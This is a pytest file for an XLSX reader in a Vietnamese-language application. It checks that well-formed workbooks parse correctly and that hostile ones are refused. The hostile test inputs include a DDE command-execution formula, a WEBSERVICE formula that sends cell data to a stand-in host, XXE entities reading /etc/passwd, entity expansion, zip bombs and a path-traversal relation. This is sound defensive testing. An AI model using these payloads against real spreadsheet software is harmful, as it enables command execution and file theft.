"""Workbooks as programs save them, and as nobody should: every refusal is one sentence."""

from __future__ import annotations

import io
import random
import subprocess
import sys
import zipfile
from contextlib import suppress
from datetime import date, datetime, timedelta

import pytest
from openpyxl import Workbook
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from congress_app.formats.limits import Limits
from congress_app.formats.sheet import LegacyColumn, Merge, Row, Sheet
from congress_app.formats.xlsx.reading import read_workbook
from congress_app.kernel.errors import DomainError, TooLarge, Unreadable
from tests.formats.xlsx.parts import MAIN, archive, cell, parts, relations, workbook, worksheet

LIMITS = Limits(rows=1_000, cells=10_000)
ROW = f'<row r="1">{cell("A1", "x")}</row>'


def read(data: bytes) -> Sheet:
    return read_workbook(data, LIMITS)


def rows(xml: str, **more: str) -> list[tuple[int, tuple[object, ...]]]:
    return [(row.number, row.cells) for row in read(workbook(xml, **more)).rows]


def refused(data: bytes) -> tuple[type[DomainError], str]:
    with pytest.raises(DomainError) as caught:
        read(data)
    return type(caught.value), str(caught.value)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_workbook_of_openpyxl_reads_as_it_was_written() -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Danh sách"
    sheet["B2"] = "DANH SÁCH  ĐẠI BIỂU "
    sheet.merge_cells("B2:D2")
    sheet.append([1, "Lê\nÝ", date(1980, 2, 1), datetime.fromisoformat("2020-10-14T07:30"), 1.5])
    sheet.append([None, True, "0912", -3, "=không"])
    sheet["E4"].data_type = "s"
    assert read(saved(book)) == Sheet(
        "Danh sách",
        (
            Row(2, (None, "DANH SÁCH ĐẠI BIỂU")),
            Row(3, (1, "Lê\nÝ", date(1980, 2, 1), datetime.fromisoformat("2020-10-14T07:30"), 1.5)),
            Row(4, (None, True, "0912", -3, "=không")),
        ),
        (Merge(2, 1, 2, 3),),
    )


def test_values_agree_with_another_reader() -> None:
    generator = random.Random(7)
    book = Workbook()
    for _ in range(60):
        book.active.append(
            [
                generator.choice([generator.randint(-99, 10**9), generator.random() * 100]),
                generator.choice(["Nguyễn Thị Ánh", "ĐẶNG & <Ý>", "a\tb", "x" * 500]),
                date(1950, 1, 1) + timedelta(days=generator.randint(0, 30_000)),
                generator.choice([True, False]),
            ]
        )
    data = saved(book)
    other = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    mine = [row.cells for row in read(data).rows]
    assert [[row[0], row[2], row[3]] for row in mine] == [[r[0], r[2], r[3]] for r in other]
    assert [row[1] for row in mine] == [str(r[1]).replace("\t", " ") for r in other]


def test_shared_strings_rich_text_and_reading_aids() -> None:
    strings = (
        f'<sst xmlns="{MAIN}" uniqueCount="4000000000"><si><t>Lê</t></si>'
        "<si><r><t>Nguyễn </t></r><r><rPr><b/></rPr><t>Ánh</t></r><rPh><t>aid</t></rPh></si>"
        "<si><t/></si></sst>"
    )
    xml = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
        '<c r="C1" t="s"><v>2</v></c><c r="D1" t="inlineStr"><is><r><t>Bùi </t></r><r><t>An</t></r>'
        "<rPh><t>aid</t></rPh></is></c></row>"
    )
    assert rows(xml, strings=strings) == [(1, ("Lê", "Nguyễn Ánh", None, "Bùi An"))]


def test_addresses_may_be_missing_or_skip() -> None:
    xml = (
        "<row><c><v>1</v></c><c/><c><v>3</v></c></row>"
        '<row r="5"><c r="C5"><v>2</v></c><c><v>4</v></c></row><row><c><v>9</v></c></row>'
    )
    assert rows(xml) == [(1, (1, None, 3)), (5, (None, None, 2, 4)), (6, (9,))]


def test_elements_may_carry_a_prefix() -> None:
    sheet = (
        f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="2"><x:c r="B2" t="str">'
        "<x:v>Ý</x:v></x:c></x:row></x:sheetData></x:worksheet>"
    )
    assert [row.cells for row in read(archive(parts(sheet))).rows] == [(None, "Ý")]


def test_errors_and_odd_numbers_are_kept_as_text() -> None:
    xml = (
        '<row r="1"><c r="A1" t="e"><v>#N/A</v></c><c r="B1"><v>nan</v></c>'
        '<c r="C1"><v>1E+3</v></c><c r="D1" t="d"><v>1980-02-01</v></c></row>'
    )
    assert rows(xml) == [(1, ("#N/A", "nan", 1000, date(1980, 2, 1)))]


def test_decomposed_text_is_composed() -> None:
    assert rows(f'<row r="1">{cell("A1", "Nguye&#x302;&#x303;n&#xA0;  Vi&#x323;")}</row>') == [
        (1, ("Nguyễn Vị",))
    ]


def test_the_first_visible_sheet_with_content_is_read() -> None:
    book = Workbook()
    book.active.title = "Trống"
    hidden = book.create_sheet("Ẩn")
    hidden["A1"], hidden.sheet_state = "ẩn", "hidden"
    book.create_sheet("Có")["A1"] = "có"
    sheet = read(saved(book))
    assert (sheet.name, sheet.rows, sheet.other_sheets) == ("Có", (Row(1, ("có",)),), ("Trống",))


def test_an_empty_workbook_is_told() -> None:
    kind, sentence = refused(saved(Workbook()))
    assert (kind, sentence) == (Unreadable, "Tệp không có dữ liệu: mọi trang tính đều trống.")


def test_honest_formulas_give_their_stored_result() -> None:
    xml = (
        '<row r="1"><c r="A1"><f>ROW()-1</f><v>0</v></c>'
        '<c r="B1" t="str"><f>C1&amp;" | "&amp;D1</f><v>Lê Ý</v></c>'
        '<c r="C1"><f t="shared" si="0"/><v>5</v></c><c r="D1"><v>6</v></c></row>'
    )
    assert rows(xml) == [(1, (0, "Lê Ý", 5, 6))]


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.org/"&amp;A1)',
        'HYPERLINK("http://example.org","x")',
        "cmd|'/c calc'!A0",
        "webservice (A1)",
        "DDE(1,2,3)",
    ],
)
def test_formulas_that_reach_out_are_refused_by_address(formula: str) -> None:
    kind, sentence = refused(
        workbook(f'<row r="7"><c r="D7" t="str"><f>{formula}</f><v>ok</v></c></row>')
    )
    assert kind is Unreadable
    assert sentence.startswith("Ô D7 chứa công thức không an toàn")


def test_a_formula_without_a_result_is_refused_by_address() -> None:
    book = Workbook()
    book.active["B3"] = "=1+1"
    kind, sentence = refused(saved(book))
    assert kind is Unreadable
    assert sentence.startswith("Ô B3 chứa công thức chưa có kết quả")


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"])
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE w SYSTEM "http://example.org/w.dtd">',
    ],
)
def test_entities_are_refused(part: str, doctype: str) -> None:
    found = parts(worksheet(ROW), styles=f'<styleSheet xmlns="{MAIN}"/>')
    found[part] = doctype + str(found[part])
    kind, sentence = refused(archive(found))
    assert kind is Unreadable
    assert "DOCTYPE" in sentence


def test_a_swollen_archive_is_refused_before_it_is_unpacked() -> None:
    bomb = worksheet(ROW, after=" " * 40_000_000)
    kind, sentence = refused(archive(parts(bomb)))
    assert kind is TooLarge
    assert sentence.startswith("Tệp nén chứa 38 MB dữ liệu")


def test_a_bomb_in_any_part_is_refused() -> None:
    found = parts(worksheet(ROW)) | {"xl/media/image1.png": b"\0" * 30_000_000}
    assert refused(archive(found))[0] is TooLarge


def test_too_many_parts_are_refused() -> None:
    found = parts(worksheet(ROW)) | {f"xl/media/{n}.png": "x" for n in range(2_001)}
    assert refused(archive(found))[0] is TooLarge


def test_a_directory_that_lies_about_sizes_is_a_damaged_file() -> None:
    data = bytearray(archive(parts(worksheet(ROW, after=" " * 9_000))))
    out = io.BytesIO(bytes(data))
    with zipfile.ZipFile(out) as source:
        entry = source.getinfo("xl/worksheets/sheet1.xml")
    size = entry.file_size.to_bytes(4, "little")
    lied = bytes(data).replace(size, (100).to_bytes(4, "little"))
    assert lied != bytes(data)
    assert refused(lied)[0] is Unreadable


def test_a_claim_of_the_whole_grid_is_refused() -> None:
    kind, sentence = refused(workbook(ROW, before='<dimension ref="A1:XFD1048576"/>'))
    assert kind is TooLarge
    assert sentence.startswith("Trang tính khai báo kín toàn bộ")


def test_other_claims_are_not_believed() -> None:
    assert rows(ROW) == [(1, ("x",))]
    sheet = read(workbook(ROW, before='<dimension ref="A1:P1048576"/>'))
    assert sheet.rows == (Row(1, ("x",)),)


def test_a_value_in_the_last_row_costs_nothing() -> None:
    xml = f'{ROW}<row r="1048576">{cell("A1048576", "y")}</row>'
    assert rows(xml) == [(1, ("x",)), (1048576, ("y",))]


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        ("".join(f'<row r="{n}"><c><v>1</v></c></row>' for n in range(1, 1_002)), "too_many_rows"),
        ("".join(f"<row>{'<c><v>1</v></c>' * 200}</row>" for _ in range(51)), "too_many_cells"),
        (f'<row r="1">{cell("XFD1", "x")}</row>', "too_many_columns"),
    ],
)
def test_more_than_the_limits_is_refused(xml: str, code: str) -> None:
    with pytest.raises(TooLarge) as caught:
        read(workbook(xml))
    assert caught.value.code == code


@pytest.mark.parametrize(
    "xml",
    [
        f'<row r="1">{cell("ZZZZ1", "x")}</row>',
        f'<row r="1">{cell("1", "x")}</row>',
        f'<row r="0">{cell("A0", "x")}</row>',
        f'<row r="9999999999">{cell("A1", "x")}</row>',
        f'<row r="2">{cell("A2", "x")}</row><row r="1">{cell("A1", "x")}</row>',
        '<row r="1"><c r="A1" t="s"><v>5</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>x</v></c></row>',
        '<row r="1"><c r="A1">',
    ],
)
def test_nonsense_is_a_damaged_file(xml: str) -> None:
    assert refused(workbook(xml))[1].startswith("Không đọc được tệp: tệp bị hỏng")


def test_parts_that_are_absent_make_a_damaged_file() -> None:
    for name in parts(worksheet(ROW)):
        found = parts(worksheet(ROW))
        del found[name]
        if name == "_rels/.rels":
            assert read(archive(found)).rows == (Row(1, ("x",)),)
        else:
            assert refused(archive(found))[0] is Unreadable


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("xl/vbaProject.bin", "macro"),
        ("xl/externalLinks/externalLink1.xml", "liên kết tới tệp khác"),
        ("mimetype", ".xlsx hoặc .csv"),
        ("xl/workbook.bin", ".xlsx hoặc .csv"),
    ],
)
def test_workbooks_that_do_more_are_refused(name: str, word: str) -> None:
    kind, sentence = refused(archive(parts(worksheet(ROW)) | {name: "x"}))
    assert kind is Unreadable
    assert word in sentence


def test_a_relation_cannot_lead_out_of_the_archive() -> None:
    found = parts(worksheet(ROW))
    found["xl/_rels/workbook.xml.rels"] = relations(("r1", "worksheet", "../../../etc/passwd"))
    assert refused(archive(found))[0] is Unreadable


def test_a_file_cut_anywhere_is_one_sentence() -> None:
    data = workbook(ROW)
    for length in range(4, len(data), 37):
        with pytest.raises(Unreadable):
            read(data[:length])


def test_a_file_with_changed_bytes_is_read_or_refused() -> None:
    generator = random.Random(3)
    data = workbook(ROW, strings=f'<sst xmlns="{MAIN}"><si><t>a</t></si></sst>')
    for _ in range(300):
        changed = bytearray(data)
        for _ in range(generator.randint(1, 6)):
            changed[generator.randrange(len(changed))] = generator.randrange(256)
        with suppress(DomainError):
            assert read(bytes(changed)).rows


def test_the_library_not_chosen_dies_of_a_claim() -> None:
    """Why the reader is ours; when this fails, think again (docs/formats.md)."""
    data = workbook(ROW, strings=f'<sst xmlns="{MAIN}" uniqueCount="4000000000"><si/></sst>')
    assert read(data).rows == (Row(1, ("x",)),)
    script = (
        "import io, sys, python_calamine;"
        "python_calamine.load_workbook(io.BytesIO(sys.stdin.buffer.read()))"
    )
    died = subprocess.run(
        [sys.executable, "-c", script], input=data, capture_output=True, check=False
    )
    assert died.returncode < 0


def test_a_legacy_font_and_its_letters_are_recognised_together() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["NguyÔn V¨n An", "Müller", "Nguyễn"])
    for place in "ABC":
        sheet[f"{place}1"].font = Font(name=".VnTime")
    assert read(saved(book)).legacy == (LegacyColumn(0, "TCVN3", 1, "NguyÔn V¨n An"),)


def test_legacy_letters_alone_need_a_second_cell() -> None:
    book = Workbook()
    book.active.append(["Nguyeãn Vaên Huøng", "TrÇn V¨n B"])
    book.active.append(["Traàn Thò Bích", "x"])
    assert read(saved(book)).legacy == (LegacyColumn(0, "VNI", 1, "Nguyeãn Vaên Huøng"),)
